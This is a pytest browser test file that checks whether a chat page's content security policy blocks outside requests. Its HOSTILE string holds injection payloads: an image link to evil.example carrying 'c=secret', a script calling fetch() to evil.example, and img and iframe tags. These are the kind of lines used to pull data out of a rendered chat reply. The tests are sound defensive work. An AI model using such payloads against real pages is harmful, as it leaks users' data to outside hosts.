"""The content security policy in a real browser: the page works, nothing is refused or fetched."""

import pytest

HOSTILE = (
    "![x](https://evil.example/a.png?c=secret) <img src=https://evil.example/b.png> "
    "<script>fetch('https://evil.example/c')</script> <iframe src=https://evil.example/d></iframe>"
)


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_the_page_works_and_nothing_leaves(app, open_page, scheme):
    page = open_page(app.url, scheme=scheme)
    console, asked = [], []
    page.on("console", lambda message: console.append(message.text))
    page.on("request", lambda request: asked.append(request.url))
    page.reload()
    page.wait_for_selector("#message textarea")
    page.fill("#message textarea", HOSTILE)
    page.press("#message textarea", "Enter")
    page.wait_for_selector("#transcript .assistant", timeout=60_000)
    page.wait_for_selector("#send:visible", timeout=60_000)
    assert not [line for line in console if "Content Security Policy" in line]
    assert not [url for url in asked if not url.startswith((app.url, "data:", "blob:"))]


def test_the_policy_holds_where_escaping_would_fail(app, open_page):
    """What a hostile reply would do if its text became HTML: the browser refuses all of it."""
    page = open_page(app.url)
    console, answered = [], []
    page.on("console", lambda message: console.append(message.text))
    page.on("response", lambda response: answered.append(response.url))
    page.evaluate(
        """async () => {
            const add = (html) => document.body.insertAdjacentHTML('beforeend', html);
            add('<img src="http://127.0.0.1:9/image.png">');
            add('<iframe src="http://127.0.0.1:9/frame"></iframe>');
            const script = document.createElement('script');
            script.src = 'http://127.0.0.1:9/script.js';
            document.body.append(script);
            await fetch('http://127.0.0.1:9/data').catch(() => {});
        }"""
    )
    page.wait_for_timeout(500)
    for rule in ("img-src", "frame-src", "script-src", "connect-src"):
        assert any(rule in line for line in console), rule
    assert not [url for url in answered if ":9/" in url]
